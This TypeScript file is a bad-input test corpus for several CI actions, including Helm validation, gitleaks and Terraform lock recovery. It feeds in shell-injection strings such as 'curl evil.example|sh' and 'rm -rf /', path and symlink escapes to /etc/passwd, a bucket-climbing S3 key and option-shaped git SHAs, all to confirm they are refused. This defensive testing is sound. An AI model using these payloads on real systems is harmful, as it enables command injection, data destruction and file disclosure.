// The bad-input corpus: inputs a new user mistypes and an adversarial one crafts, for every action. Each
// case runs through the local runner against the real bundle (bad-inputs.test.ts) and must end with the
// step failed, exactly one error line that names the input (or file) and what was expected, no stack
// trace, nothing written, no secret printed, and within a bounded time.
//
// trivy-scan and k8s-deploy-rollback keep their own tables next to their tests (they need a registry or
// kubectl set up); the corpus counts them, and their tests apply the same assertions.
import type { Outcome } from '@platform-actions/kit';

export interface CorpusCase {
  action: 'helm-validate' | 'gitleaks-scan' | 'tf-lock-check' | 'migration-test' | 'trivy-scan' | 'k8s-deploy-rollback' | 'test-report';
  name: string;
  inputs: Record<string, string>;
  /** What the one error line must say. */
  expect: RegExp;
  /** Default config-error: the input was rejected before any work. */
  outcome?: Outcome;
  event?: { name: string; payload: Record<string, unknown> };
  env?: Record<string, string>;
  /** Longest the step may take (default 20 s). */
  maxMs?: number;
  /** 'traps' runs in a workspace holding only a 36 MB .tf file and a 10,000-deep one. */
  workspace?: 'main' | 'traps';
}

/** Given to every case as the `token` input where the action has one: it must never be printed. */
export const CORPUS_TOKEN = 'ghp_CorpusSecretToken0123456789abcdef';
/** The database password in migration-test URLs: it must never be printed, in any encoding. */
export const CORPUS_PASSWORD = 'p@ss/w:rd#%9x';
const enc = encodeURIComponent(CORPUS_PASSWORD);

// ---- Standard inputs, applied to every action that declares them (see standardCases()). ----
const SHELL = ['$(touch /tmp/pa-corpus-pwned)', '`id`', '1.0; rm -rf /', '1.0 && curl evil.example|sh', '--help'];
export function standardCases(action: CorpusCase['action'], declared: ReadonlySet<string>, versionInput: string | undefined): CorpusCase[] {
  const out: CorpusCase[] = [];
  const has = (i: string) => declared.has(i);
  if (has('fail-on')) {
    for (const v of ['hgh', 'HIGH!', 'critical,high', 'error'])
      out.push({ action, name: `fail-on ${JSON.stringify(v)}`, inputs: { 'fail-on': v }, expect: /input "fail-on" must be one of critical, high, medium, low, info, none/ });
  }
  if (has('comment')) out.push({ action, name: 'comment "yes"', inputs: { comment: 'yes' }, expect: /input "comment" must be true or false; got "yes"/ });
  for (const file of ['sarif-file', 'report-file'].filter(has)) {
    out.push({ action, name: `${file} is a directory`, inputs: { [file]: 'reports/' }, expect: new RegExp(`input "${file}" must be a file path, not a directory`) });
    out.push({
      action,
      name: `${file} escapes the workspace with ../`,
      inputs: { [file]: '../../../etc/pa-corpus.sarif' },
      expect: new RegExp(`input "${file}" must be a path inside the workspace`),
    });
    out.push({
      action,
      name: `${file} through a symlink leading outside`,
      inputs: { [file]: 'link-out/pa-corpus.sarif' },
      expect: new RegExp(`input "${file}" must be a path inside the workspace .*symlink that leads outside`),
    });
    out.push({ action, name: `${file} under a file`, inputs: { [file]: 'README.md/x.sarif' }, expect: new RegExp(`input "${file}" must be a path whose parent is a directory`) });
  }
  if (versionInput) {
    for (const v of SHELL) out.push({ action, name: `${versionInput} ${JSON.stringify(v)}`, inputs: { [versionInput]: v }, expect: new RegExp(`input "${versionInput}" must be`) });
  }
  const mirror = ['mirror', 'helm-mirror'].find(has);
  if (mirror) {
    for (const v of ['ftp://mirror.example/releases', 'not a url', 'file:///etc/passwd'])
      out.push({ action, name: `${mirror} ${JSON.stringify(v)}`, inputs: { [mirror]: v }, expect: new RegExp(`input "${mirror}" must be an http\\(s\\) URL`) });
    out.push({
      action,
      name: `${mirror} with credentials`,
      inputs: { [mirror]: 'https://robot:hunter2-secret@mirror.example/r' },
      expect: new RegExp(`input "${mirror}" must not carry credentials`),
    });
  }
  if (has('timeout')) {
    // tf-lock-check reads its timeout for `wait` only.
    const extra: Record<string, string> = action === 'tf-lock-check' ? { command: 'wait', 'working-directory': 'infra' } : {};
    for (const v of ['ten minutes', '-5m', '5 m', '1y'])
      out.push({ action, name: `timeout ${JSON.stringify(v)}`, inputs: { ...extra, timeout: v }, expect: /input "timeout" must be a duration such as 90s, 5m or 1h30m/ });
  }
  return out;
}

// ---- helm-validate ----
const helm: CorpusCase[] = [
  { action: 'helm-validate', name: 'charts outside the workspace', inputs: { charts: '../../..' }, expect: /input "charts" must be a path inside the workspace/ },
  {
    action: 'helm-validate',
    name: 'charts through a symlink leading outside',
    inputs: { charts: 'link-out' },
    expect: /input "charts" must be a path inside the workspace .*symlink/,
  },
  { action: 'helm-validate', name: 'charts that match nothing', inputs: { charts: 'chartz/*' }, expect: /input "charts" .*(matched no|no chart)/ },
  {
    action: 'helm-validate',
    name: 'a values file that does not exist',
    inputs: { charts: 'charts/web', 'values-files': 'values-prodution.yaml' },
    expect: /values-prodution\.yaml/,
  },
  {
    action: 'helm-validate',
    name: 'values file through a symlink leading outside',
    inputs: { charts: 'charts/linked', 'values-files': 'values-outside.yaml' },
    expect: /values-outside\.yaml is a symlink that leads outside the workspace/,
  },
  { action: 'helm-validate', name: 'kubernetes-versions we do not ship', inputs: { 'kubernetes-versions': '1.99' }, expect: /input "kubernetes-versions" .*1\.99/ },
  { action: 'helm-validate', name: 'kubernetes-versions not a version', inputs: { 'kubernetes-versions': 'latest' }, expect: /input "kubernetes-versions"/ },
  {
    action: 'helm-validate',
    name: 'validate-default-values "maybe"',
    inputs: { 'validate-default-values': 'maybe' },
    expect: /input "validate-default-values" must be true or false/,
  },
  { action: 'helm-validate', name: 'lint "on"', inputs: { lint: 'on' }, expect: /input "lint" must be true or false/ },
  { action: 'helm-validate', name: 'unknown-kinds "ignore"', inputs: { 'unknown-kinds': 'ignore' }, expect: /input "unknown-kinds" must be one of notice, fail/ },
  {
    action: 'helm-validate',
    name: 'severity-overrides for a rule that does not exist',
    inputs: { 'severity-overrides': 'probes-mising=off' },
    expect: /input "severity-overrides" .*probes-mising/,
  },
  {
    action: 'helm-validate',
    name: 'severity-overrides with an unknown severity',
    inputs: { 'severity-overrides': 'probes-missing=urgent' },
    expect: /input "severity-overrides" .*urgent/,
  },
  { action: 'helm-validate', name: 'severity-overrides without =', inputs: { 'severity-overrides': 'probes-missing' }, expect: /input "severity-overrides"/ },
  {
    action: 'helm-validate',
    name: 'exceptions-file that does not exist',
    inputs: { 'exceptions-file': 'exceptions.yml' },
    expect: /input "exceptions-file" must name an existing path/,
  },
  {
    action: 'helm-validate',
    name: 'exceptions-file through a symlink to /etc/passwd',
    inputs: { 'exceptions-file': 'passwd-link' },
    expect: /input "exceptions-file" must be a path inside the workspace/,
  },
  { action: 'helm-validate', name: 'exceptions-file that is a YAML bomb', inputs: { 'exceptions-file': 'bomb.yaml' }, expect: /exceptions-file|bomb\.yaml/ },
  { action: 'helm-validate', name: 'exceptions-file that is not UTF-8', inputs: { 'exceptions-file': 'latin1.yaml' }, expect: /exceptions-file|latin1\.yaml/ },
  { action: 'helm-validate', name: 'exceptions-file that is a directory', inputs: { 'exceptions-file': 'charts' }, expect: /input "exceptions-file" must name a file/ },
  { action: 'helm-validate', name: 'dependency-build "sometimes"', inputs: { 'dependency-build': 'sometimes' }, expect: /input "dependency-build" must be one of/ },
  {
    action: 'helm-validate',
    name: 'schemas outside the workspace',
    inputs: { charts: 'charts/web', schemas: '../../../etc' },
    expect: /input "schemas" .*(inside the workspace|https)/,
  },
  { action: 'helm-validate', name: 'schemas from plain http', inputs: { charts: 'charts/web', schemas: 'http://schemas.example/crds.yaml' }, expect: /input "schemas"/ },
  { action: 'helm-validate', name: 'release-name helm refuses', inputs: { 'release-name': 'Bad_Name;rm' }, expect: /input "release-name"/ },
  { action: 'helm-validate', name: 'namespace Kubernetes refuses', inputs: { namespace: 'UPPER case' }, expect: /input "namespace"/ },
];

// ---- gitleaks-scan ----
const gitleaks: CorpusCase[] = [
  { action: 'gitleaks-scan', name: 'mode "diff"', inputs: { mode: 'diff' }, expect: /input "mode" must be one of auto, range, full, dir/ },
  { action: 'gitleaks-scan', name: 'path outside the workspace', inputs: { path: '../../..' }, expect: /input "path" must be a path inside the workspace/ },
  { action: 'gitleaks-scan', name: 'path through a symlink leading outside', inputs: { path: 'link-out' }, expect: /input "path" must be a path inside the workspace .*symlink/ },
  { action: 'gitleaks-scan', name: 'config that does not exist', inputs: { config: 'gitleaks.tml' }, expect: /input "config" must name an existing path/ },
  {
    action: 'gitleaks-scan',
    name: 'config through a symlink to /etc/passwd',
    inputs: { config: 'passwd-link' },
    expect: /input "config" must be a path inside the workspace( or RUNNER_TEMP)?/,
  },
  { action: 'gitleaks-scan', name: 'baseline-path that does not exist', inputs: { 'baseline-path': 'baseline.json' }, expect: /input "baseline-path" must name an existing path/ },
  { action: 'gitleaks-scan', name: 'baseline-path that is not a gitleaks report', inputs: { 'baseline-path': 'README.md' }, expect: /input "baseline-path" .*(JSON|report)/ },
  { action: 'gitleaks-scan', name: 'deepen-limit negative', inputs: { 'deepen-limit': '-5' }, expect: /input "deepen-limit" must be a whole number/ },
  { action: 'gitleaks-scan', name: 'deepen-limit "lots"', inputs: { 'deepen-limit': 'lots' }, expect: /input "deepen-limit" must be a whole number/ },
  { action: 'gitleaks-scan', name: 'config-change "maybe"', inputs: { 'config-change': 'maybe' }, expect: /input "config-change" must be one of/ },
];

// ---- tf-lock-check ----
const tf: CorpusCase[] = [
  { action: 'tf-lock-check', name: 'command "lnt"', inputs: { command: 'lnt' }, expect: /input "command" must be one of lint, status, wait, recover/ },
  {
    action: 'tf-lock-check',
    name: 'working-directory outside the workspace',
    inputs: { 'working-directory': '../..' },
    expect: /input "working-directory" must be a path inside the workspace/,
  },
  {
    action: 'tf-lock-check',
    name: 'working-directory through a symlink leading outside',
    inputs: { 'working-directory': 'link-out' },
    expect: /input "working-directory" must be a path inside the workspace .*symlink/,
  },
  {
    action: 'tf-lock-check',
    name: 'working-directory that does not exist',
    inputs: { 'working-directory': 'infra/prod' },
    expect: /input "working-directory" must name an existing path/,
  },
  {
    action: 'tf-lock-check',
    name: 'workspace that climbs into another bucket',
    inputs: { command: 'status', 'working-directory': 'infra', workspace: '../../other-bucket/x' },
    expect: /input "workspace"/,
  },
  { action: 'tf-lock-check', name: 'workspace with a slash', inputs: { command: 'status', 'working-directory': 'infra', workspace: 'team/prod' }, expect: /input "workspace"/ },
  { action: 'tf-lock-check', name: 'workspace with spaces', inputs: { command: 'recover', 'working-directory': 'infra', workspace: 'my prod' }, expect: /input "workspace"/ },
  { action: 'tf-lock-check', name: 'flavor "terragrunt"', inputs: { flavor: 'terragrunt' }, expect: /input "flavor" must be one of/ },
  {
    action: 'tf-lock-check',
    name: 'fail-if-locked "yes"',
    inputs: { command: 'status', 'working-directory': 'infra', 'fail-if-locked': 'yes' },
    expect: /input "fail-if-locked" must be true or false/,
  },
  {
    action: 'tf-lock-check',
    name: 'force-unlock-stale "y"',
    inputs: { command: 'status', 'working-directory': 'infra', 'force-unlock-stale': 'y' },
    expect: /input "force-unlock-stale" must be true or false/,
  },
  {
    action: 'tf-lock-check',
    name: 'stale-after "two hours"',
    inputs: { command: 'status', 'working-directory': 'infra', 'stale-after': 'two hours' },
    expect: /input "stale-after" must be a duration/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with a stale-after under the floor',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'stale-after': '30s' },
    expect: /input "stale-after"/,
  },
  { action: 'tf-lock-check', name: 'terraform-version "latest"', inputs: { 'terraform-version': 'latest' }, expect: /input "terraform-version"/ },
  {
    action: 'tf-lock-check',
    name: 'backend-config file that does not exist',
    inputs: { command: 'status', 'working-directory': 'infra', 'backend-config': 'prod.tfbackend' },
    expect: /input "backend-config" .*prod\.tfbackend/,
  },
  {
    action: 'tf-lock-check',
    name: 'backend-config through a symlink to /etc/passwd',
    inputs: { command: 'status', 'working-directory': 'infra', 'backend-config': '../passwd-link' },
    expect: /input "backend-config" .*inside the workspace/,
  },
  // Backend settings that would point a lock release at another object (a URL parser removes dot
  // segments): refused before any request, naming the setting and where it came from.
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, key climbing into another bucket',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=../victim-bucket/prod/terraform.tfstate' },
    expect: /backend setting "key" \(from the backend-config input\) must not have "\." or "\.\." path segments/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, workspace_key_prefix climbing out',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'workspace_key_prefix=../../x', workspace: 'blue' },
    expect: /backend setting "workspace_key_prefix" \(from the backend-config input\) must not have "\." or "\.\." path segments/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, bucket ".."',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'bucket=..' },
    expect: /backend setting "bucket" \(from the backend-config input\) must be an S3 bucket name/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, key with ./ segments',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=./envs/./dev.tfstate' },
    expect: /backend setting "key" \(from the backend-config input\) must not have "\." or "\.\." path segments/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, absolute key',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=/etc/x.tfstate' },
    expect: /backend setting "key" \(from the backend-config input\) must not start or end with "\/"/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, key with a trailing /',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=envs/dev/' },
    expect: /backend setting "key" \(from the backend-config input\) must not start or end with "\/"/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, key with //',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'key=envs//dev.tfstate' },
    expect: /backend setting "key" \(from the backend-config input\) must not contain "\/\/"/,
  },
  {
    action: 'tf-lock-check',
    name: 'recover with force-unlock-stale, region that moves the endpoint host',
    inputs: { command: 'recover', 'working-directory': 'infra', 'force-unlock-stale': 'true', 'backend-config': 'region=us-east-1.attacker.example#' },
    expect: /backend setting "region" \(from the backend-config input\) must be an AWS region/,
  },
  {
    action: 'tf-lock-check',
    name: 'a 36 MB .tf file',
    inputs: { 'working-directory': 'huge' },
    expect: /huge\/main\.tf/,
    outcome: 'config-error',
    maxMs: 30_000,
    workspace: 'traps',
  },
  {
    action: 'tf-lock-check',
    name: '10,000-deep nesting in a .tf file',
    inputs: { 'working-directory': 'deep' },
    expect: /deep\/main\.tf/,
    outcome: 'config-error',
    workspace: 'traps',
  },
];

// ---- migration-test ----
const mig: CorpusCase[] = [
  { action: 'migration-test', name: 'no database-url', inputs: {}, expect: /input "database-url" is required/ },
  {
    action: 'migration-test',
    name: 'database-url for MySQL',
    inputs: { 'database-url': `mysql://root:${enc}@127.0.0.1/app` },
    expect: /input "database-url" must use the postgres:\/\/ or postgresql:\/\/ scheme/,
  },
  { action: 'migration-test', name: 'database-url that is not a URL', inputs: { 'database-url': `host=db password=${CORPUS_PASSWORD}` }, expect: /input "database-url"/ },
  {
    action: 'migration-test',
    name: 'database-url without a password to a closed port (bounded, no prompt)',
    inputs: { 'database-url': 'postgresql://app@127.0.0.1:9/app', 'wait-timeout': '3s' },
    expect: /127\.0\.0\.1:9|database-url|connect/,
    outcome: 'tool-error',
    maxMs: 20_000,
  },
  { action: 'migration-test', name: 'tool "flyway"', inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, tool: 'flyway' }, expect: /input "tool" must be one of/ },
  {
    action: 'migration-test',
    name: 'mode "roundtrip"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, mode: 'roundtrip' },
    expect: /input "mode" must be one of/,
  },
  {
    action: 'migration-test',
    name: 'down-steps "-1"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'down-steps': '-1' },
    expect: /input "down-steps" must be a whole number/,
  },
  {
    action: 'migration-test',
    name: 'down-steps "all"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'down-steps': 'all' },
    expect: /input "down-steps" must be a whole number/,
  },
  {
    action: 'migration-test',
    name: 'max-failures "many"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'max-failures': 'many' },
    expect: /input "max-failures" must be a whole number/,
  },
  {
    action: 'migration-test',
    name: 'working-directory outside the workspace',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'working-directory': '../..' },
    expect: /input "working-directory" must be a path inside the workspace/,
  },
  {
    action: 'migration-test',
    name: 'working-directory through a symlink leading outside',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'working-directory': 'link-out' },
    expect: /input "working-directory" must be a path inside the workspace .*symlink/,
  },
  {
    action: 'migration-test',
    name: 'seed-dir outside the workspace',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'seed-dir': '../../etc' },
    expect: /input "seed-dir" must be a path inside the workspace/,
  },
  {
    action: 'migration-test',
    name: 'column-order "loose"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'column-order': 'loose' },
    expect: /input "column-order" must be one of strict, logical/,
  },
  {
    action: 'migration-test',
    name: 'url-env that is not a variable name',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'url-env': 'DATABASE-URL;id' },
    expect: /input "url-env"/,
  },
  {
    action: 'migration-test',
    name: 'statement-timeout "forever"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'statement-timeout': 'forever' },
    expect: /input "statement-timeout" must be a duration/,
  },
  {
    action: 'migration-test',
    name: 'wait-timeout "soon"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'wait-timeout': 'soon' },
    expect: /input "wait-timeout" must be a duration/,
  },
  {
    action: 'migration-test',
    name: 'command-timeout "x"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, 'command-timeout': 'x' },
    expect: /input "command-timeout" must be a duration/,
  },
  {
    action: 'migration-test',
    name: 'lint "maybe"',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, lint: 'maybe' },
    expect: /input "lint" must be true or false/,
  },
  {
    action: 'migration-test',
    name: 'custom tool without up-command',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, tool: 'custom' },
    expect: /input "up-command"/,
  },
  {
    action: 'migration-test',
    name: 'django without django-app',
    inputs: { 'database-url': `postgresql://app:${enc}@127.0.0.1:9/app`, tool: 'django' },
    expect: /input "django-app"/,
  },
];

// ---- test-report ----
const JR = { junit: 'reports/junit.xml' };
const testReport: CorpusCase[] = [
  { action: 'test-report', name: 'neither junit nor coverage', inputs: {}, expect: /input "junit" or input "coverage" must name at least one report/ },
  {
    action: 'test-report',
    name: 'min-coverage "eighty"',
    inputs: { coverage: 'c.xml', 'min-coverage': 'eighty' },
    expect: /input "min-coverage" must be a percentage from 0 to 100/,
  },
  { action: 'test-report', name: 'min-coverage 120', inputs: { coverage: 'c.xml', 'min-coverage': '120' }, expect: /input "min-coverage" must be a percentage from 0 to 100/ },
  { action: 'test-report', name: 'min-pass-rate -1', inputs: { ...JR, 'min-pass-rate': '-1' }, expect: /input "min-pass-rate" must be a percentage from 0 to 100/ },
  { action: 'test-report', name: 'min-coverage without coverage', inputs: { ...JR, 'min-coverage': '80' }, expect: /input "min-coverage" needs the coverage input/ },
  { action: 'test-report', name: 'fail-on-decrease "yes"', inputs: { coverage: 'c.xml', 'fail-on-decrease': 'yes' }, expect: /input "fail-on-decrease" must be true or false/ },
  { action: 'test-report', name: 'fail-on-decrease without coverage', inputs: { ...JR, 'fail-on-decrease': 'true' }, expect: /input "fail-on-decrease" needs the coverage input/ },
  {
    action: 'test-report',
    name: 'coverage-metric "statements"',
    inputs: { coverage: 'c.xml', 'coverage-metric': 'statements' },
    expect: /input "coverage-metric" must be one of lines, branches, combined/,
  },
  { action: 'test-report', name: 'slowest 1000', inputs: { ...JR, slowest: '1000' }, expect: /input "slowest" must be a whole number in 0\.\.100/ },
  { action: 'test-report', name: 'name with shell syntax', inputs: { ...JR, name: 'backend; rm -rf /' }, expect: /input "name" must be a short label/ },
  { action: 'test-report', name: 'junit outside the workspace', inputs: { junit: '../../../etc/passwd' }, expect: /input "junit" must be a path inside the workspace/ },
  { action: 'test-report', name: 'junit glob that starts outside the workspace', inputs: { junit: '../../**/*.xml' }, expect: /input "junit" must be a path inside the workspace/ },
  {
    action: 'test-report',
    name: 'junit through a symlink to /etc/passwd',
    inputs: { junit: 'passwd-link' },
    expect: /input "junit" must be a path inside the workspace .*symlink/,
  },
  {
    action: 'test-report',
    name: 'junit naming a folder',
    inputs: { junit: 'reports' },
    expect: /input "junit" must name report files or globs, not a folder \(for example reports\/\*\.xml\)/,
  },
  {
    action: 'test-report',
    name: 'junit naming a Markdown file',
    inputs: { junit: 'README.md' },
    expect: /input "junit" must name JUnit XML reports; README\.md is not a format test-report reads/,
  },
  {
    action: 'test-report',
    name: 'coverage naming a Helm values file',
    inputs: { coverage: 'charts/web/values.yaml' },
    expect: /input "coverage" must name Cobertura XML, LCOV or coverage\.py JSON reports; charts\/web\/values\.yaml is/,
  },
  {
    action: 'test-report',
    name: 'coverage naming a file that is not UTF-8',
    inputs: { coverage: 'latin1.yaml' },
    expect: /input "coverage" must name Cobertura XML, LCOV or coverage\.py JSON reports; latin1\.yaml is/,
  },
  {
    action: 'test-report',
    name: 'base-report outside the workspace',
    inputs: { coverage: 'c.xml', 'base-report': '../../../etc/base.json' },
    expect: /input "base-report" must be a path inside the workspace .*or RUNNER_TEMP/,
  },
  {
    action: 'test-report',
    name: 'junit pattern that matches nothing',
    inputs: { junit: 'reports/*.xml' },
    expect: /no JUnit report matched "reports\/\*\.xml" \(input junit\): the test step did not write one there/,
    outcome: 'tool-error',
  },
];

// ---- Event payloads that try to become arguments: never run, never a crash. ----
const EVIL_SHA = '--upload-pack=touch /tmp/pa-corpus-pwned';
export const payloadCases: Array<{ name: string; event: { name: string; payload: Record<string, unknown> } }> = [
  { name: 'push with option-shaped SHAs', event: { name: 'push', payload: { before: EVIL_SHA, after: EVIL_SHA, commits: [{}] } } },
  {
    name: 'pull_request with option-shaped SHAs',
    event: {
      name: 'pull_request',
      payload: { number: 1, pull_request: { number: 1, base: { sha: EVIL_SHA, ref: 'main' }, head: { sha: EVIL_SHA, ref: '--output=/tmp/pa-corpus-pwned' } } },
    },
  },
  { name: 'pull_request without a PR object', event: { name: 'pull_request', payload: { number: 'x' } } },
  {
    name: 'merge_group with non-hex SHAs',
    event: { name: 'merge_group', payload: { merge_group: { base_sha: 'HEAD~1', head_sha: '$(id)', base_ref: 'refs/heads/main', head_ref: 'x' } } },
  },
];

export const actionCases: CorpusCase[] = [...helm, ...gitleaks, ...tf, ...mig, ...testReport];
